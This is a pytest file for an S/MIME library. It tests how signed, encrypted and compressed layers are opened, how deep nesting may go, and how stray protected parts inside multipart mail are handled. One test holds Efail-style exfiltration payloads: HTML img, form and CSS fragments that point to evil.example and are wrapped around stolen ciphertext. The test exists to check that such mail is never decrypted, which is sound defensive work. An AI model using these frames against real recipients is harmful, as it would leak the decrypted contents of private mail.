"""Layers: what surrounds the message counts, what stands elsewhere is named and left closed."""

import zlib
from collections.abc import Sequence

import pytest
from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes

from siegel.base.buffers import Buffer, joined
from siegel.base.errors import KeyUnavailable
from siegel.base.findings import Finding
from siegel.base.keys import DecryptionKey, EmptyKeyring, KeyId, TransportScheme
from siegel.base.limits import DEFAULT, Limits
from siegel.cms.enveloped import build_enveloped_data
from siegel.mime.parse import parse_entity
from siegel.policy.inbound import CryptographicSummary
from siegel.smime.errant import errant_layers
from siegel.smime.layers import CompressedLayer, EncryptedLayer, ErrantLayer, SignedLayer
from siegel.smime.schemes import recipient_spec
from tests.peers import mime
from tests.unit.cms.test_compressed import compressed as compressed_data
from tests.unit.smime import mails
from tests.unit.smime.mails import TEXT, certificate, judged, mail, opened
from tests.unit.smime.test_structure import OTHER, cms, lines_of, parts, signature

ENCRYPTED_UNVERIFIED = CryptographicSummary.ENCRYPTED_UNVERIFIED


def encrypted(content: bytes, name: str = "huber", cipher: str = "aes256-cbc") -> bytes:
    """An encrypted entity without any signature: only others make such a thing."""
    spec = recipient_spec(certificate(name))
    blob = joined(build_enveloped_data([content], [spec], cipher=cipher))
    return mime.pkcs7_mime(blob, "enveloped-data")


def opaque(content: bytes, name: str = "alice") -> bytes:
    return mime.pkcs7_mime(cms(content, name, detached=False), "signed-data")


def mixed(*bodies: bytes, mark: bytes = b"m") -> bytes:
    head = b'Content-Type: multipart/mixed; boundary="' + mark + b'"\r\n\r\n'
    inside = b"".join(b"--" + mark + b"\r\n" + body + b"\r\n" for body in bodies)
    return head + inside + b"--" + mark + b"--\r\n"


# how deep


def wrapped(times: int) -> bytes:
    entity = TEXT
    for _ in range(times):
        entity = opaque(entity)
    return mail(entity)


def test_as_many_layers_as_the_limit_says_are_opened() -> None:
    found = opened(wrapped(DEFAULT.layers))

    assert len(found.layers) == DEFAULT.layers
    assert bytes(found.payload.exact) == TEXT
    assert found.findings == ()


def test_one_layer_more_is_too_complex_and_never_green() -> None:
    found = opened(wrapped(DEFAULT.layers + 1))

    assert len(found.layers) == DEFAULT.layers
    assert found.findings == (Finding.TOO_COMPLEX,)
    assert bytes(found.payload.exact) != TEXT
    assert judged(found).summary is CryptographicSummary.UNPROTECTED


def test_the_limit_is_a_parameter() -> None:
    found = opened(wrapped(3), limits=Limits(layers=2))

    assert len(found.layers) == 2
    assert found.findings == (Finding.TOO_COMPLEX,)


# which order


@pytest.mark.requirement("A17")
def test_what_is_encrypted_and_not_signed_is_opened_and_never_called_confidential() -> None:
    found = opened(mail(encrypted(TEXT)), "huber")

    assert bytes(found.payload.exact) == TEXT
    assert judged(found).summary is ENCRYPTED_UNVERIFIED


def test_a_signature_outside_of_the_encryption_is_named_and_does_not_count() -> None:
    found = opened(mail(opaque(encrypted(TEXT))), "huber")

    assert [type(layer) for layer in found.layers] == [SignedLayer, EncryptedLayer]
    assert found.findings == (Finding.SIGNED_OUTSIDE_ENCRYPTION,)
    assert judged(found).summary is ENCRYPTED_UNVERIFIED


def test_encryption_within_encryption_is_opened_with_the_keys_of_the_reader() -> None:
    both = opened(mail(encrypted(encrypted(opaque(TEXT), "dana"))), "huber", "dana")
    one = opened(mail(encrypted(encrypted(opaque(TEXT), "dana"))), "huber")

    assert bytes(both.payload.exact) == TEXT
    assert [layer.opened for layer in both.encrypted_layers] == [True, True]
    assert [layer.opened for layer in one.encrypted_layers] == [True, False]
    assert judged(one).summary is ENCRYPTED_UNVERIFIED


@pytest.mark.requirement("A22", "A66", "A73")
def test_without_the_key_a_message_stays_whole_and_closed() -> None:
    raw = mails.sealed_mail("alice", "huber")

    found = opened(raw, "bob")

    (layer,) = found.encrypted_layers
    assert (layer.opened, layer.key_found) == (False, False)
    assert layer.findings == (Finding.NO_DECRYPTION_KEY,)
    assert found.payload is found.message.root
    assert found.protected_fields == ()


@pytest.mark.requirement("A66")
def test_a_key_that_comes_later_opens_the_same_message() -> None:
    raw = mails.sealed_mail("alice", "huber")

    assert not opened(raw).encrypted_layers[0].opened
    assert bytes(opened(raw, "huber").payload.exact) == TEXT


def test_a_token_that_does_not_answer_says_nothing_about_the_message() -> None:
    class Unplugged:
        certificates = (certificate("huber"),)
        public_key = mails.key("huber").public_key

        def decrypt(self, blob: Buffer, scheme: TransportScheme) -> bytes:
            raise KeyUnavailable("the token is unplugged")

        def agree(self, peer: PublicKeyTypes) -> bytes:
            raise KeyUnavailable("the token is unplugged")

        def decapsulate(self, ciphertext: Buffer) -> bytes:
            raise KeyUnavailable("the token is unplugged")

    class Ring(EmptyKeyring):
        def matching(self, identifier: KeyId) -> Sequence[DecryptionKey]:
            del identifier
            return (Unplugged(),)

    with pytest.raises(KeyUnavailable):
        opened(mails.sealed_mail("alice", "huber"), ring=Ring())


# compression


def squeezed(entity: bytes) -> bytes:
    """RFC 3274; the OpenSSL of many systems cannot, it is built without zlib."""
    head = (
        b"Content-Type: application/pkcs7-mime; smime-type=compressed-data; name=smime.p7z\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
    )
    return head + lines_of(compressed_data(zlib.compress(entity)))


def test_compression_is_a_layer_that_protects_nothing() -> None:
    found = opened(mail(squeezed(TEXT)))

    assert found.layers == (CompressedLayer(),)
    assert found.findings == (Finding.COMPRESSED,)
    assert not found.protected
    assert bytes(found.payload.exact) == TEXT
    assert judged(found).summary is CryptographicSummary.UNPROTECTED


@pytest.mark.parametrize("inside", [True, False], ids=["signed-inside", "signed-outside"])
def test_compression_may_stand_on_either_side_of_a_signature(inside: bool) -> None:
    found = opened(mail(squeezed(opaque(TEXT)) if inside else opaque(squeezed(TEXT))))

    assert bytes(found.payload.exact) == TEXT
    assert judged(found).summary is CryptographicSummary.VERIFIED


def test_what_grows_too_far_is_too_complex() -> None:
    found = opened(mail(opaque(squeezed(bytes(4_000_000)))))

    assert Finding.TOO_COMPLEX in found.findings
    assert judged(found).summary is CryptographicSummary.UNPROTECTED


# errant layers


ERRANT = [
    pytest.param(mixed(mime.text_entity(), opaque(TEXT)), [("2", "signed-data")], id="opaque"),
    pytest.param(mixed(parts(TEXT, signature()), OTHER), [("1", "signed")], id="footer"),
    pytest.param(mixed(OTHER, parts(TEXT, signature())), [("2", "signed")], id="head"),
    pytest.param(
        mixed(parts(TEXT, signature()), encrypted(TEXT)),
        [("1", "signed"), ("2", "enveloped-data")],
        id="both",
    ),
    pytest.param(mixed(OTHER, signature()), [("2", "signature")], id="lost-signature"),
    pytest.param(
        mixed(OTHER, b"Content-Type: message/rfc822\r\n\r\n" + mail(parts(TEXT, signature()))),
        [("2", "signed")],
        id="forwarded",
    ),
    pytest.param(
        b"Content-Type: message/rfc822\r\n\r\n" + mail(opaque(TEXT)),
        [("1.1", "signed-data")],
        id="forwarded-alone",
    ),
    pytest.param(
        mixed(OTHER, b"Content-Type: application/octet-stream; name=smime.p7m\r\n\r\nAAAA"),
        [("2", "pkcs7-mime")],
        id="octet-stream",
    ),
    pytest.param(
        mixed(OTHER, b"Content-Type: multipart/signed; protocol=application/pgp-signature\r\n\r\n"),
        [],
        id="openpgp-is-not-ours",
    ),
]


@pytest.mark.parametrize(("entity", "expected"), ERRANT)
def test_protection_inside_of_a_message_is_named_and_protects_nothing(
    entity: bytes, expected: list[tuple[str, str]]
) -> None:
    found = opened(mail(entity), "huber")

    assert found.layers == ()
    assert [(layer.path, layer.kind) for layer in found.errant] == expected
    assert (Finding.ERRANT_LAYER in found.findings) is bool(expected)
    assert found.payload is found.message.root
    assert judged(found).summary is CryptographicSummary.UNPROTECTED


@pytest.mark.requirement("A3")
@pytest.mark.parametrize(
    "frame",
    [
        pytest.param([b'<img src="http://evil.example/', b'">'], id="img"),
        pytest.param(
            [b'<form action="http://evil.example/"><textarea>', b"</textarea>"], id="form"
        ),
        pytest.param([b"<style>*{background:url(http://evil.example/", b")}</style>"], id="css"),
    ],
)
@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative"])
def test_ciphertext_between_other_parts_is_never_opened(frame: list[bytes], kind: bytes) -> None:
    """Efail, direct exfiltration: HTML around the stolen ciphertext would carry its text away."""
    stolen = encrypted(b"Content-Type: text/plain\r\n\r\ngeheim\r\n")
    html = [b"Content-Type: text/html\r\n\r\n" + piece for piece in frame]
    raw = mail(mixed(html[0], stolen, html[1]).replace(b"multipart/mixed", b"multipart/" + kind))

    found = opened(raw, "huber")

    assert found.layers == ()
    assert found.errant == (ErrantLayer(path="2", kind="enveloped-data"),)
    assert b"geheim" not in bytes(found.payload.exact)
    assert found.payload is found.message.root


def test_opened_text_is_a_document_of_its_own() -> None:
    """Nothing of what stood around it in the message can become part of it."""
    found = opened(mail(encrypted(b"Content-Type: text/html\r\n\r\n<p>geheim")), "huber")

    assert found.payload.buffer is not found.message.root.buffer
    assert (found.payload.start, found.payload.end) == (0, len(found.payload.buffer))


def test_layers_inside_of_the_payload_are_errant_too() -> None:
    inside = mixed(OTHER, parts(TEXT, signature()))

    found = opened(mail(opaque(inside)))

    assert len(found.layers) == 1
    assert [layer.kind for layer in found.errant] == ["signed"]
    assert judged(found).summary is CryptographicSummary.VERIFIED


def test_errant_layers_are_not_looked_into() -> None:
    nested = mixed(mixed(opaque(mixed(OTHER, opaque(TEXT))), mark=b"inner"), OTHER)

    assert [layer.path for layer in errant_layers(parse_entity(nested))] == ["1.1"]
